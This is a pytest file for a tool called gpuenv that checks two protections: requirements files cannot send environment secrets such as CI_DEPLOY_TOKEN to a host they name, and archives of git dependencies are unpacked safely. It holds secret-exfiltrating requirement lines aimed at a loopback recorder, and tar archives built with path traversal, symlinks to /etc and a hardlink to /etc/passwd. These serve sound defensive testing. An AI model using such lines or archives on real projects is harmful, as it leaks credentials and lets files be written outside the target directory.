"""A project's files are data, never a channel to the user's environment (issue 44, N1).

The attacker writes the project (in CI: the branch under test); the user runs gpuenv on it
with secrets in the environment. A requirements file must not carry a variable's value to
a host it names, and reading a project (`gpuenv matrix`, `init`, `lock --check`, `build
--dry-run`) fetches nothing from any host it names. The "host" here is a recording TCP
server on loopback: it counts every connection and keeps the first bytes of each (an
https client's handshake fails against it, but the connection is still counted)."""

from __future__ import annotations

import contextlib
import io
import os
import shutil
import socketserver
import stat
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from cli_runner import CliRunner

from gpuenv.cli import app
from gpuenv.matrix import vcs
from gpuenv.project.project import open_project
from tests.unit.test_requirements import write

SECRET = "s3cretTOKEN"


class _Recorder(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self) -> None:
        self.seen: list[bytes] = []
        super().__init__(("127.0.0.1", 0), _Record)


class _Record(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        self.request.settimeout(2)
        try:
            data = self.request.recv(4096)
        except OSError:
            data = b""
        self.server.seen.append(data)  # type: ignore[attr-defined]
        with contextlib.suppress(OSError):
            self.request.sendall(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n")


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[_Recorder]:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setenv("GPUENV_INDEX_PASSWORD", SECRET)
    monkeypatch.setenv("CI_DEPLOY_TOKEN", SECRET)
    server = _Recorder()
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def _gpuenv(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, list(args))
    assert "Traceback" not in result.output
    return result.exit_code, result.output


@pytest.mark.parametrize(
    "line",
    [
        # The review's own reproduction, and variants of it.
        "evil @ git+http://127.0.0.1:{port}/${{GPUENV_INDEX_PASSWORD}}/repo.git@main",
        "evil @ git+http://127.0.0.1:{port}/${{CI_DEPLOY_TOKEN}}/repo.git@main",
        "evil @ git+https://127.0.0.1:{port}/${{CI_DEPLOY_TOKEN}}/repo.git@main",
        "evil @ http://127.0.0.1:{port}/dl/${{GPUENV_INDEX_PASSWORD}}/evil-1.0.tar.gz",
        "evil @ https://127.0.0.1:{port}/dl/${{CI_DEPLOY_TOKEN}}/evil-1.0.tar.gz",
        "--extra-index-url http://127.0.0.1:{port}/${{CI_DEPLOY_TOKEN}}/simple",
    ],
)
@pytest.mark.parametrize("included", [False, True], ids=["file", "included"])
def test_no_variable_of_the_environment_reaches_a_host_or_a_message(tmp_path, host, line, included):
    text = line.format(port=host.server_address[1]) + "\n"
    if included:  # the same line one `-r` down
        (tmp_path / "other.txt").write_text(text)
        text = "six\n-r other.txt\n"
    (tmp_path / "reqs.txt").write_text(text)
    path = write(tmp_path)
    for verb in (["matrix"], ["lock", "--check"], ["build", "--dry-run"], ["lock"]):
        code, output = _gpuenv(*verb, "-f", str(path))
        assert code != 0 and output.startswith("error: "), (verb, output)
        assert output.count("\n") == 1, output
        assert SECRET not in output, (verb, output)
        assert "reqs.txt" in output or "other.txt" in output, output
        assert "$GPUENV_ALLOW_ENV" in output, output
    assert host.seen == [], host.seen


def test_a_variable_the_user_allows_fills_a_version_never_a_url(tmp_path, host, monkeypatch):
    monkeypatch.setenv("GPUENV_ALLOW_ENV", "SIX_VERSION,CI_DEPLOY_TOKEN")
    monkeypatch.setenv("SIX_VERSION", "1.17.0")
    (tmp_path / "reqs.txt").write_text("six==${SIX_VERSION}\n")
    assert open_project(write(tmp_path)).cells[0].pip == ("rich", "six==1.17.0")
    port = host.server_address[1]
    for line in (
        f"evil @ git+http://127.0.0.1:{port}/${{CI_DEPLOY_TOKEN}}/repo.git@main",
        f"evil @ https://127.0.0.1:{port}/${{CI_DEPLOY_TOKEN}}/evil-1.0.tar.gz",
        f"-i http://127.0.0.1:{port}/${{CI_DEPLOY_TOKEN}}/simple",
    ):
        (tmp_path / "reqs.txt").write_text(line + "\n")
        code, output = _gpuenv("matrix", "-f", str(write(tmp_path)))
        assert code == 1 and "${CI_DEPLOY_TOKEN} inside a URL" in output, output
        assert SECRET not in output
    assert host.seen == []


def test_an_unset_variable_the_user_allows_is_named(tmp_path, host, monkeypatch):
    monkeypatch.setenv("GPUENV_ALLOW_ENV", "GPUENV_TEST_UNSET_VARIABLE")
    monkeypatch.delenv("GPUENV_TEST_UNSET_VARIABLE", raising=False)
    (tmp_path / "reqs.txt").write_text("six==${GPUENV_TEST_UNSET_VARIABLE}\n")
    code, output = _gpuenv("matrix", "-f", str(write(tmp_path)))
    assert code == 1 and "${GPUENV_TEST_UNSET_VARIABLE} is not set" in output


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_reading_a_project_fetches_no_git_reference(tmp_path, host):
    """With no variable at all: a git reference is fetched by `gpuenv lock` (or `build`),
    never by reading the project; reading one not fetched yet says what fetches it."""
    port = host.server_address[1]
    (tmp_path / "reqs.txt").write_text(f"evil @ git+http://127.0.0.1:{port}/repo.git@main\n")
    path = write(tmp_path)
    for verb in (["matrix"], ["lock", "--check"], ["build", "--dry-run"]):
        code, output = _gpuenv(*verb, "-f", str(path))
        assert code == 1 and "not fetched yet" in output and "gpuenv lock" in output, output
    assert host.seen == []
    assert not (tmp_path / "cache" / "gpuenv" / "vcs").exists()
    # The fetching step itself does go to the host (and says so without a traceback).
    with vcs.fetching(), pytest.raises(Exception, match="git fetch failed"):
        open_project(path)
    assert host.seen


# ---------------------------------------------------------------- a git reference's tree
# Its archive comes from a repository the project names: unpacked as untrusted, the same
# way on every Python gpuenv accepts (issue 44, item 5: `extractall(filter=...)` arrived in
# 3.11.4, and Debian bookworm's own Python is 3.11.2).


def _tar(*members: tuple[str, str, object]) -> tarfile.TarFile:
    """A tar in memory: (name, kind f/d/l/h/c, body or link target or mode)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, kind, value in members:
            info = tarfile.TarInfo(name)
            if kind == "f":
                data, info.mode = (value, 0o664) if isinstance(value, bytes) else (b"x", value)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
                continue
            info.type = {"d": tarfile.DIRTYPE, "l": tarfile.SYMTYPE, "h": tarfile.LNKTYPE,
                         "c": tarfile.CHRTYPE, "p": tarfile.FIFOTYPE}[kind]  # fmt: skip
            info.mode = 0o775 if kind == "d" else 0o777
            info.linkname = str(value or "")
            tar.addfile(info)
    buf.seek(0)
    return tarfile.open(fileobj=buf)


@pytest.fixture
def bookworm_python(monkeypatch: pytest.MonkeyPatch) -> None:
    """TarFile.extractall as Python 3.11.2 has it: no `filter` argument."""
    real = tarfile.TarFile.extractall

    def extractall(self, path=".", members=None, *, numeric_owner=False, **kw):  # type: ignore[no-untyped-def]
        if kw:
            raise TypeError(
                f"TarFile.extractall() got an unexpected keyword argument {next(iter(kw))!r}"
            )
        return real(self, path, members, numeric_owner=numeric_owner)

    monkeypatch.setattr(tarfile.TarFile, "extractall", extractall)


def test_a_tree_unpacks_with_tidy_modes_on_any_python(tmp_path, bookworm_python):
    tar = _tar(("pkg", "d", None), ("pkg/a.py", "f", b"A = 1\n"), ("pkg/run.sh", "f", 0o775),
               ("pkg/link.py", "l", "a.py"), ("deep/er/b.txt", "f", b"b"))  # fmt: skip
    vcs.extract(tar, tmp_path / "out")
    out = tmp_path / "out"
    assert (out / "pkg" / "a.py").read_bytes() == b"A = 1\n"
    assert stat.S_IMODE((out / "pkg" / "a.py").stat().st_mode) == 0o644
    assert stat.S_IMODE((out / "pkg" / "run.sh").stat().st_mode) == 0o755
    assert os.readlink(out / "pkg" / "link.py") == "a.py"
    assert (out / "deep" / "er" / "b.txt").read_bytes() == b"b"


@pytest.mark.parametrize(
    "members",
    [
        [("/tmp/abs", "f", b"x")],
        [("../up", "f", b"x")],
        [("a/../../up", "f", b"x")],
        [("out", "l", "../..")],
        [("out", "l", "/etc")],
        [("here", "l", "."), ("out", "l", "here/..")],
        [("d", "d", None), ("d/out", "l", "../../x")],
        [("hard", "h", "/etc/passwd")],
        [("dev", "c", None)],
        [("fifo", "p", None)],
        [("a.py", "f", b"x"), ("link", "l", "a.py"), ("link", "f", b"through")],
    ],
    ids=[
        "absolute",
        "dotdot",
        "inner-dotdot",
        "symlink-up",
        "symlink-abs",
        "symlink-chain",
        "symlink-in-dir",
        "hardlink",
        "device",
        "fifo",
        "file-over-symlink",
    ],
)
def test_a_hostile_member_is_refused_and_nothing_lands_outside(tmp_path, members):
    box = tmp_path / "box"
    box.mkdir()
    with pytest.raises((tarfile.TarError, OSError)):
        vcs.extract(_tar(*members), box / "out")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["box"]
    assert sorted(p.name for p in box.iterdir()) == ["out"]
    if (box / "out" / "a.py").exists():  # not written through the symlink
        assert (box / "out" / "a.py").read_bytes() == b"x"


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_init_writes_the_matrix_without_fetching_a_git_reference(tmp_path, host):
    # `gpuenv init` reads the project to choose; the matrix it writes names the
    # requirements file, not its lines, so a git reference not fetched yet is left to
    # `gpuenv lock` (which needs the matrix init writes), and no host is contacted.
    port = host.server_address[1]
    (tmp_path / "requirements.txt").write_text(
        f"torch>=2.5\nevil @ git+http://127.0.0.1:{port}/repo.git@main\n"
    )
    code, output = _gpuenv("init", str(tmp_path))
    assert code == 0, output
    assert "requirements.txt" in (tmp_path / "matrix.yaml").read_text()
    assert host.seen == []
